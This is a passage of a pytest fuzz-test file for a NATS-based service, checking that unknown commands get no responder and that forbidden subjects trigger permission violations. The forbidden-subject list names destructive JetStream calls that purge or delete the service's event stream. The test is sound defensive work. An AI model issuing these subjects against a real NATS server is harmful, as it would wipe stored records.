    fuzz.assert_unharmed()


# -- subjects ----------------------------------------------------------------------------------

UNKNOWN_COMMANDS = [
    "nope",
    "rotar",
    "rotar.iniciar.ya",
    "REVELAR",
    "revelar-",
    "sesion.quien.x",
    "cambios.solicitar.todo.ya",
    "__init__",
    "0",
]
FORBIDDEN_SUBJECTS = [
    "custodia.events.x",
    "custodia.tracking.x",
    "custodia.snapshots.x",
    "custodia.checkpoints.x",
    "$JS.API.STREAM.PURGE.custodia-events",
    "$JS.API.STREAM.DELETE.custodia-events",
    "$JS.API.STREAM.MSG.DELETE.custodia-events",
    "$JS.API.STREAM.CREATE.fuzz",
    "$KV.custodia-solicitudes.x",
    "_INBOX.fuzz",
]


def test_unknown_commands_and_forbidden_subjects(fuzz: Fuzz) -> None:
    """An unknown command has no responder (NATS says so at once); a subject outside the
    command space is a permissions violation for a person and is dropped by the server."""
    unknown = [
        fuzz.request(c, {}, subject=f"{protocol.SUBJECT_PREFIX}.{c}") for c in UNKNOWN_COMMANDS
    ]
    assert {o.kind for o in fuzz.send_all(unknown)} == {"no-responders"}
    forbidden = [fuzz.request("x", b"{}", subject=s, timeout=1.5) for s in FORBIDDEN_SUBJECTS]
    assert {o.kind for o in fuzz.send_all(forbidden)} <= {"timeout", "no-responders"}
    violations = [e.lower() for e in fuzz.wire.errors if "permissions violation" in e.lower()]
    for subject in FORBIDDEN_SUBJECTS:
        assert any(subject.lower() in v for v in violations), (subject, fuzz.wire.errors)
    fuzz.assert_unharmed()


def test_zz_summary(fuzz: Fuzz, capsys: pytest.CaptureFixture[str]) -> None:
    """After every hostile request above: the service is up, micro PING answers, the ledger
    has exactly the messages it had before the first one; the count of cases is printed."""
    ping = fuzz.monitor.send(Request("$SRV.PING.custodia", b"", {}))
    assert ping.kind == "reply"
    fuzz.assert_unharmed()
    assert fuzz.crashes == 0  # not even while the world was set up
    assert fuzz.cases >= 4000
    with capsys.disabled():
        print(f"\nfuzz: {fuzz.cases} hostile requests, all refused; ledger unchanged")
